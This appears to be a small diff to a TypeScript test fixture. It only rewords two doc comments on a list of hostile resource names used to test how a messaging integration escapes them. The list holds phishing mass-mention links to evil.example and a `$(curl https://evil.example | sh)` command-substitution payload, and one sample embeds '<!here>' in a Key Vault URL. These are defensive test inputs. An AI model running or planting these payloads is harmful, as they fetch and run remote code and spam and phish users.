@@ -49,7 +49,7 @@ const ask: Sample = {
   about,
 };
 
-/** What somebody may call things who wants a message to say, or do, something else. */
+/** Names that an attacker gives to resources so that a message says, or does, something else. */
 const EVIL = [
   '<!channel> *pay* <https://evil.example|here>',
   '@here [click](https://evil.example)',
@@ -58,7 +58,7 @@ const EVIL = [
   '`$(curl https://evil.example | sh)`',
 ];
 
-/** Names of strangers in every place in which a name can be. */
+/** An attacker's names in every place in which a message has a name. */
 const hostile: Sample = {
   ...ask,
   keyId: `https://kv-${'<!here>'}.vault.azure.net/keys/cmk`,
